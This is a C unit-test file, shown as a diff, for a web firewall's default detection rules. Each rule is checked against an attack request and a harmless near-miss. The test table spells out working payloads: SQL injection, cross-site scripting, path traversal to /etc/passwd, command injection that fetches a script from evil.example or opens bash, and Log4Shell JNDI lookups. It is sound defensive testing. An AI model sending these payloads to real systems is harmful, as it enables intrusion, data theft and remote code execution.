@@ -1,0 +1,448 @@
+// SPDX-License-Identifier: GPL-2.0-or-later
+/*
+ * The bundled default rule set (rules/sets/): every rule has an attack that
+ * fires it and a benign near-miss that fires nothing at all; the demo's
+ * requests do what the demo says; ordinary traffic fires nothing.
+ */
+#include <errno.h>
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+#include "rules/rules.h"
+#include "test_rules_util.h"
+
+#define FIREFOX                                                     \
+	"Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 " \
+	"Firefox/120.0"
+#define CHROME                                                          \
+	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 " \
+	"(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
+
+/*
+ * One request: a method and URI, optionally one header that replaces or
+ * adds to the browser-like defaults, optionally a body.
+ */
+struct probe {
+	const char *method;
+	const char *uri;
+	const char *hname;
+	const char *hval;
+	const char *body;
+};
+
+/* A rule, one attack on it, one near-miss that must fire nothing. */
+struct row {
+	uint32_t id;
+	struct probe attack;
+	struct probe near;
+};
+
+#define GET(u)                             \
+	{                                  \
+		"GET", u, NULL, NULL, NULL \
+	}
+#define HDR(n, v)                      \
+	{                              \
+		"GET", "/", n, v, NULL \
+	}
+#define POST(u, b)                       \
+	{                                \
+		"POST", u, NULL, NULL, b \
+	}
+
+static const struct row rows[] = {
+	/* 1001xx SQL injection */
+	{ 100100, GET("/search?q=1'+UNION+SELECT+password+FROM+users--"),
+	  GET("/search?q=trade+union+select+committee+report") },
+	{ 100100, GET("/item?id=1+union+all+select+null,null--"),
+	  GET("/search?q=union+selected+from+members") },
+	{ 100100, GET("/item?id=1/**/UNION/**/SELECT/**/1,2"),
+	  GET("/search?q=credit+union+select+account") },
+	{ 100100, POST("/search", "q=x%27%20union%20select%20version()"),
+	  POST("/search", "q=union+rates&select=savings") },
+	{ 100101, GET("/login?user=admin'+or+'1'='1"),
+	  GET("/search?q=tea'+or+'coffee'='tea") },
+	{ 100101, GET("/item?id=1+or+1=1"), GET("/item?id=1+or+1=10") },
+	{ 100101, HDR("Cookie", "session=x' OR 'a'='a"),
+	  HDR("Cookie", "session=ab12cd34; theme=dark") },
+	{ 100102, GET("/item?id=1+and+sleep(5)"),
+	  GET("/search?q=sleep+(8+hours)+a+night") },
+	{ 100102, GET("/item?id=1;select+benchmark(1000000,md5(1))"),
+	  GET("/search?q=benchmark+(2024)+results") },
+	{ 100102, GET("/item?id=1';waitfor+delay+'0:0:5'--"),
+	  GET("/search?q=waitfor+delay+notification") },
+	{ 100103, GET("/item?id=1;+DROP+TABLE+users"),
+	  GET("/search?q=drop+table+tennis") },
+	{ 100103, GET("/item?id=1;exec+xp_cmdshell('dir')"),
+	  GET("/search?q=notes;+drop+a+line") },
+	/* 1002xx cross-site scripting */
+	{ 100200, GET("/search?q=<script>alert(1)</script>"),
+	  GET("/search?q=<scripture>+reading") },
+	{ 100200, GET("/search?q=%253Cscript%253Ealert(1)"),
+	  GET("/search?q=script+tag+tutorial") },
+	{ 100201, GET("/go?url=javascript:alert(document.domain)"),
+	  GET("/search?q=javascript:+the+good+parts") },
+	{ 100201, GET("/go?url=JaVaScRiPt:window['al'%2B'ert'](1)"),
+	  GET("/go?url=https://example.com/javascript/") },
+	{ 100202, GET("/search?q=<img+src=x+onerror=alert(1)>"),
+	  GET("/search?q=onerror=retry") },
+	{ 100202, GET("/c?m=<svg/onload=alert(1)>"),
+	  GET("/c?m=<b>online=yes</b>") },
+	/* 1003xx path traversal, local file inclusion */
+	{ 100300, GET("/download?file=..%2F..%2F..%2Fapp.conf"),
+	  GET("/docs?see=../guide") },
+	{ 100300, GET("/download?file=..\\..\\boot"),
+	  GET("/search?q=wait...+for+it/") },
+	{ 100301, GET("/view?page=/etc/passwd"),
+	  GET("/account/etc/password-reset") },
+	{ 100301, GET("/view?page=....//....//proc/self/environ"),
+	  GET("/search?q=proc+self+help") },
+	/* 1004xx command injection */
+	{ 100400, GET("/ping?host=127.0.0.1;cat+/etc/passwd"),
+	  GET("/search?q=dogs;+cat+pictures") },
+	{ 100400, GET("/ping?host=x|tail+-n+5+/var/log/syslog"),
+	  GET("/search?q=head+and+tail+of+a+list") },
+	{ 100401, GET("/ping?host=1.2.3.4|wget+http://evil.example/x.sh"),
+	  GET("/search?q=curl+https://example.com+tutorial") },
+	{ 100401, GET("/ping?host=x%26%26whoami"),
+	  GET("/search?q=whoami+command") },
+	{ 100401, GET("/ping?host=x;+bash+-i"),
+	  GET("/search?q=bash+-i+flag+meaning") },
+	{ 100402, GET("/ping?host=$(whoami)"),
+	  GET("/search?q=costs+$(5)+each") },
+	{ 100403, GET("/ping?host=`id`"), GET("/search?q=the+`cat`+command") },
+	/* 1005xx Log4Shell */
+	{ 100500, HDR("X-Api-Version", "${jndi:ldap://evil.example/a}"),
+	  HDR("X-Template", "${user.name}") },
+	{ 100500, HDR("User-Agent", "${${lower:j}ndi:ldap://x/a}"),
+	  GET("/search?q=jndi:+lookup+docs") },
+	{ 100500, GET("/?x=%24%7Bjndi%3Armi%3A%2F%2Fx%2Fa%7D"),
+	  GET("/?tpl=%24%7Bname%7D") },
+	/* 1006xx scanners */
+	{ 100600, HDR("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
+	  HDR("User-Agent", "Mozilla/5.0 (compatible; sql-map-viewer/1.0)") },
+	{ 100600,
+	  HDR("User-Agent",
+	      "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"),
+	  HDR("User-Agent", CHROME) },
+	{ 100600,
+	  HDR("User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; "
+			    "https://nmap.org/book/nse.html)"),
+	  HDR("X-Tool", "nmap") },
+};
+
+/* Ordinary traffic: nothing may fire. */
+static const struct probe benign[] = {
+	GET("/"),
+	GET("/search?q=union+station+timetable"),
+	GET("/products?category=shoes&sort=price_asc&page=2"),
+	GET("/search?q=rock+or+roll"),
+	GET("/search?q=1+or+2"),
+	GET("/search?q=O'Reilly+and+Associates"),
+	GET("/blog/2024/01/how-to-sleep-better"),
+	GET("/static/js/app.min.js?v=3.2.1"),
+	GET("/search?q=select+a+union+rep"),
+	POST("/login", "username=alice&password=s3cr3t%21"),
+	HDR("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.x"),
+	HDR("Referer", "https://shop.example/search?q=union+station"),
+	HDR("Accept", "application/json, text/plain, */*"),
+	HDR("User-Agent", "curl/7.88.1"),
+	HDR("User-Agent", CHROME),
+};
+
+struct defset {
+	struct tset t;
+};
+
+static int setup(void **state)
+{
+	struct enf_rules_builder *b = NULL;
+	struct enf_rule_error err = { 0 };
+	struct defset *d = calloc(1, sizeof(*d));
+	char dir[4096];
+	int ret;
+
+	if (!d)
+		return -1;
+	if (!tsrc_path(dir, sizeof(dir), "rules/sets")) {
+		fprintf(stderr, "ENF_SOURCE_DIR is not set\n");
+		free(d);
+		return -1;
+	}
+	ret = enf_rules_builder_new(&b);
+	if (!ret)
+		ret = enf_rules_builder_add_dir(b, dir, &err);
+	if (ret > 0)
+		ret = enf_rules_build(b, &d->t.rs, &err);
+	if (!ret)
+		ret = enf_rules_scratch_new(d->t.rs, &d->t.s);
+	enf_rules_builder_free(b);
+	if (ret) {
+		fprintf(stderr, "default set refused (%d) at %s:%u:%u: %s\n",
+			ret, err.origin, err.line, err.column, err.msg);
+		tset_free(&d->t);
+		free(d);
+		return -1;
+	}
+	*state = d;
+	return 0;
+}
+
+static int teardown(void **state)
+{
+	struct defset *d = *state;
+
+	tset_free(&d->t);
+	free(d);
+	return 0;
+}
+
+static void build_probe(struct treq *req, const struct probe *p)
+{
+	treq_init(req, p->method, p->uri);
+	treq_header(req, "Host", "shop.example");
+	if (!p->hname || strcmp(p->hname, "User-Agent"))
+		treq_header(req, "User-Agent", FIREFOX);
+	treq_header(req, "Accept",
+		    "text/html,application/xhtml+xml,application/xml;q=0.9,"
+		    "*/*;q=0.8");
+	treq_header(req, "Accept-Language", "en-US,en;q=0.5");
+	if (p->hname)
+		treq_header(req, p->hname, p->hval);
+	if (p->body) {
+		treq_header(req, "Content-Type",
+			    "application/x-www-form-urlencoded");
+		treq_body(req, p->body);
+	}
+}
+
+static void describe(const struct probe *p, char *buf, size_t len)
+{
+	snprintf(buf, len, "%s %s%s%s%s%s%s", p->method, p->uri,
+		 p->hname ? " [" : "", p->hname ? p->hname : "",
+		 p->hname ? ": " : "", p->hname ? p->hval : "",
+		 p->hname ? "]" : "");
+	if (p->body)
+		snprintf(buf + strlen(buf), len - strlen(buf), " body '%s'",
+			 p->body);
+}
+
+static void list_matches(const struct tmatches *m, char *buf, size_t len)
+{
+	buf[0] = '\0';
+	for (size_t i = 0; i < m->n; i++)
+		snprintf(buf + strlen(buf), len - strlen(buf), " %u(%s='%s')",
+			 m->m[i].id, m->m[i].var, m->m[i].value);
+}
+
+static void test_rules_are_well_formed(void **state)
+{
+	struct defset *d = *state;
+	size_t n = enf_ruleset_count(d->t.rs);
+
+	assert_true(n >= 15);
+	for (size_t i = 0; i < n; i++) {
+		const struct enf_rule_info *r = enf_ruleset_rule(d->t.rs, i);
+
+		if (r->id < 100000 || r->id > 199999)
+			fail_msg("rule %u: id outside 100000-199999", r->id);
+		if (!(r->actions & ENF_ACT_DENY))
+			fail_msg("rule %u: does not deny", r->id);
+		if (!*r->msg)
+			fail_msg("rule %u: no msg", r->id);
+		if (r->severity < 0)
+			fail_msg("rule %u: no severity", r->id);
+		if (strcmp(r->engine, "hyperscan") &&
+		    strcmp(r->engine, "pcre2"))
+			fail_msg("rule %u: runs on %s", r->id, r->engine);
+	}
+}
+
+static void test_every_rule_has_an_attack_and_a_near_miss(void **state)
+{
+	struct defset *d = *state;
+	size_t n = enf_ruleset_count(d->t.rs);
+
+	for (size_t i = 0; i < n; i++) {
+		uint32_t id = enf_ruleset_rule(d->t.rs, i)->id;
+		bool found = false;
+
+		for (size_t k = 0; k < sizeof(rows) / sizeof(rows[0]); k++)
+			found |= rows[k].id == id;
+		if (!found)
+			fail_msg("rule %u has no row in the attack table", id);
+	}
+	for (size_t k = 0; k < sizeof(rows) / sizeof(rows[0]); k++) {
+		bool found = false;
+
+		for (size_t i = 0; i < n; i++)
+			found |= enf_ruleset_rule(d->t.rs, i)->id == rows[k].id;
+		if (!found)
+			fail_msg("table row for rule %u: no such rule",
+				 rows[k].id);
+	}
+}
+
+static void test_each_attack_fires_its_rule(void **state)
+{
+	struct defset *d = *state;
+	int failures = 0;
+
+	for (size_t k = 0; k < sizeof(rows) / sizeof(rows[0]); k++) {
+		char what[512], got[2048];
+		struct tmatches m;
+		struct treq req;
+		int n;
+
+		build_probe(&req, &rows[k].attack);
+		n = tset_match(&d->t, &req.req, &m);
+		if (n < 0 || !tmatches_find(&m, rows[k].id)) {
+			describe(&rows[k].attack, what, sizeof(what));
+			list_matches(&m, got, sizeof(got));
+			print_error(
+				"rule %u: attack '%s' did not fire it (%d:%s)\n",
+				rows[k].id, what, n, got);
+			failures++;
+		}
+	}
+	assert_int_equal(failures, 0);
+}
+
+static void test_each_near_miss_fires_nothing(void **state)
+{
+	struct defset *d = *state;
+	int failures = 0;
+
+	for (size_t k = 0; k < sizeof(rows) / sizeof(rows[0]); k++) {
+		char what[512], got[2048];
+		struct tmatches m;
+		struct treq req;
+		int n;
+
+		build_probe(&req, &rows[k].near);
+		n = tset_match(&d->t, &req.req, &m);
+		if (n != 0) {
+			describe(&rows[k].near, what, sizeof(what));
+			list_matches(&m, got, sizeof(got));
+			print_error("rule %u: near-miss '%s' fired (%d:%s)\n",
+				    rows[k].id, what, n, got);
+			failures++;
+		}
+	}
+	assert_int_equal(failures, 0);
+}
+
+static void test_ordinary_traffic_fires_nothing(void **state)
+{
+	struct defset *d = *state;
+	int failures = 0;
+
+	for (size_t k = 0; k < sizeof(benign) / sizeof(benign[0]); k++) {
+		char what[512], got[2048];
+		struct tmatches m;
+		struct treq req;
+		int n;
+
+		build_probe(&req, &benign[k]);
+		n = tset_match(&d->t, &req.req, &m);
+		if (n != 0) {
+			describe(&benign[k], what, sizeof(what));
+			list_matches(&m, got, sizeof(got));
+			print_error("benign '%s' fired (%d:%s)\n", what, n,
+				    got);
+			failures++;
+		}
+	}
+	assert_int_equal(failures, 0);
+}
+
+static void test_demo_attack_is_denied(void **state)
+{
+	static const char *const uris[] = {
+		"/search?q=1'+UNION+SELECT+password+FROM+users--",
+		"/search?q=1'%20UNION%20SELECT%20password%20FROM%20users--",
+	};
+	struct defset *d = *state;
+
+	for (size_t i = 0; i < sizeof(uris) / sizeof(uris[0]); i++) {
+		const struct probe p = GET(uris[i]);
+		const struct tmatch *hit;
+		struct tmatches m;
+		struct treq req;
+
+		build_probe(&req, &p);
+		assert_int_equal(tset_match(&d->t, &req.req, &m), 1);
+		hit = tmatches_find(&m, 100100);
+		if (!hit)
+			fail_msg("demo attack '%s' did not fire 100100",
+				 uris[i]);
+		assert_string_equal(hit->var, "ARGS:q");
+		assert_string_equal(hit->value,
+				    "1' union select password from users--");
+		assert_int_equal(enf_ruleset_rule(d->t.rs, 0)->actions &
+					 ENF_ACT_DENY,
+				 ENF_ACT_DENY);
+	}
+}
+
+static void test_demo_benign_requests_pass(void **state)
+{
+	static const char *const uris[] = {
+		"/",
+		"/search?q=union+station+timetable",
+	};
+	struct defset *d = *state;
+
+	for (size_t i = 0; i < sizeof(uris) / sizeof(uris[0]); i++) {
+		const struct probe p = GET(uris[i]);
+		struct tmatches m;
+		struct treq req;
+		int n;
+
+		build_probe(&req, &p);
+		n = tset_match(&d->t, &req.req, &m);
+		if (n != 0)
+			fail_msg("demo request '%s' fired %d rules (first %u)",
+				 uris[i], n, m.n ? m.m[0].id : 0);
+	}
+}
+
+static void test_tautology_runs_on_pcre2_rest_on_hyperscan(void **state)
+{
+	struct defset *d = *state;
+	size_t n = enf_ruleset_count(d->t.rs);
+
+	for (size_t i = 0; i < n; i++) {
+		const struct enf_rule_info *r = enf_ruleset_rule(d->t.rs, i);
+		const char *want = r->id == 100101 ? "pcre2" : "hyperscan";
+
+		if (strcmp(r->engine, want))
+			fail_msg("rule %u runs on %s, want %s", r->id,
+				 r->engine, want);
+	}
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_rules_are_well_formed),
+		cmocka_unit_test(test_every_rule_has_an_attack_and_a_near_miss),
+		cmocka_unit_test(test_each_attack_fires_its_rule),
+		cmocka_unit_test(test_each_near_miss_fires_nothing),
+		cmocka_unit_test(test_ordinary_traffic_fires_nothing),
+		cmocka_unit_test(test_demo_attack_is_denied),
+		cmocka_unit_test(test_demo_benign_requests_pass),
+		cmocka_unit_test(
+			test_tautology_runs_on_pcre2_rest_on_hyperscan),
+	};
+
+	return cmocka_run_group_tests_name("rules_default", tests, setup,
+					   teardown);
+}
